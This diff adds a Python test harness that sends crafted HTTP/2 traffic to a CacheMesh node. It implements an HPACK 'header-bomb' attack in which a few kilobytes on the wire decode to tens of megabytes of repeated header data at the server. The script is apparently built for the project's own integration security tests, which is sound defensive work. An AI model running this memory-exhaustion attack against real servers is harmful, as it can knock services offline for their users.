@@ -1,0 +1,102 @@
+#!/usr/bin/python3
+"""Crafted HTTP/2 traffic against a CacheMesh node (python3-h2, Debian's package).
+
+Used by the attack tests in Tests/IntegrationTests; prints one JSON line with what it saw.
+
+  header-bomb: every stream sends one header field (NAME: VALUE-SIZE bytes) COPIES times.
+               HPACK indexes it once and then names it with one byte per copy, so a few KB
+               on the wire decode to COPIES x VALUE-SIZE bytes at the server.
+"""
+import argparse, json, socket, ssl, sys, time
+
+import h2.config, h2.connection, h2.events, h2.exceptions
+
+
+def connect(a):
+    ctx = ssl.create_default_context(cafile=a.ca)
+    ctx.check_hostname = False
+    if a.cert:
+        ctx.load_cert_chain(a.cert, a.key)
+    ctx.set_alpn_protocols(["h2"])
+    raw = socket.create_connection((a.host, a.port), timeout=a.timeout)
+    s = ctx.wrap_socket(raw, server_hostname="cachemesh")
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
+                                                                 validate_outbound_headers=False,
+                                                                 normalize_outbound_headers=False))
+    conn.initiate_connection()
+    s.sendall(conn.data_to_send())
+    return s, conn
+
+
+def pump(s, conn, out, until, deadline):
+    """Read and record events until until() or the deadline or the connection ends."""
+    while not until() and time.time() < deadline:
+        try:
+            data = s.recv(65536)
+        except socket.timeout:
+            continue
+        except (ConnectionError, ssl.SSLError, OSError) as e:
+            out["closed"] = f"{type(e).__name__}: {e}"
+            return
+        if not data:
+            out["closed"] = "eof"
+            return
+        try:
+            events = conn.receive_data(data)
+        except h2.exceptions.ProtocolError as e:
+            out["closed"] = f"protocol error: {e}"
+            return
+        for e in events:
+            if isinstance(e, h2.events.ResponseReceived):
+                out["status"][str(e.stream_id)] = int(dict(e.headers)[":status"])
+            elif isinstance(e, h2.events.StreamReset):
+                out["reset"][str(e.stream_id)] = int(e.error_code)
+            elif isinstance(e, h2.events.ConnectionTerminated):
+                out["goaway"] = int(e.error_code)
+            elif isinstance(e, h2.events.DataReceived):
+                conn.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
+        pending = conn.data_to_send()
+        if pending:
+            s.sendall(pending)
+
+
+def header_bomb(a):
+    out = {"status": {}, "reset": {}, "goaway": None, "closed": None, "wire_bytes": 0}
+    s, conn = connect(a)
+    deadline = time.time() + a.timeout
+    pump(s, conn, out, lambda: True, time.time() + 0.2)  # settings
+    for i in range(a.streams):
+        if out["goaway"] is not None or out["closed"]:
+            break
+        sid = conn.get_next_available_stream_id()
+        headers = [(":method", "GET"), (":scheme", "https"), (":authority", "cachemesh"), (":path", "/cas/" + "0" * 64)]
+        headers += [(a.name, "v" * a.value_size)] * a.copies
+        conn.send_headers(sid, headers, end_stream=True)
+        data = conn.data_to_send()
+        out["wire_bytes"] += len(data)
+        s.sendall(data)
+        pump(s, conn, out, lambda: str(sid) in out["status"] or str(sid) in out["reset"] or out["goaway"] is not None, deadline)
+    s.close()
+    return out
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("attack", choices=["header-bomb"])
+    p.add_argument("--host", default="127.0.0.1")
+    p.add_argument("--port", type=int, required=True)
+    p.add_argument("--ca", required=True)
+    p.add_argument("--cert")
+    p.add_argument("--key")
+    p.add_argument("--streams", type=int, default=3)
+    p.add_argument("--copies", type=int, default=30000)
+    p.add_argument("--value-size", type=int, default=4000)
+    p.add_argument("--name", default="x-bomb")
+    p.add_argument("--timeout", type=float, default=30)
+    a = p.parse_args()
+    out = {"header-bomb": header_bomb}[a.attack](a)
+    print(json.dumps(out))
+
+
+if __name__ == "__main__":
+    main()
